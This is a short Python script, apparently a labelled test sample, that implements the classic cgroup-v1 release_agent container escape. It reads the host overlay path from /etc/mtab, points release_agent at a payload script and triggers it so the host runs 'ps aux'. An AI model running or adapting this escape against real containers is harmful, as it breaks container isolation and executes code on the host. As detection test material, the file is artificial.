# expect: files; classic cgroup-v1 release_agent escape: writes release_agent and notify_on_release under /sys/fs/cgroup
import os

cg = "/sys/fs/cgroup/rdma"
child = os.path.join(cg, "x")
os.makedirs(child, exist_ok=True)
with open(os.path.join(child, "notify_on_release"), "w") as fh:
    fh.write("1")

with open("/etc/mtab") as fh:
    host_path = next(l.split("upperdir=")[1].split(",")[0] for l in fh if "upperdir=" in l)

with open(os.path.join(cg, "release_agent"), "w") as fh:
    fh.write(host_path + "/payload")
with open("/payload", "w") as fh:
    fh.write("#!/bin/sh\nps aux > " + host_path + "/output\n")
os.chmod("/payload", 0o755)

with open(os.path.join(child, "cgroup.procs"), "w") as fh:
    fh.write(str(os.getpid()))
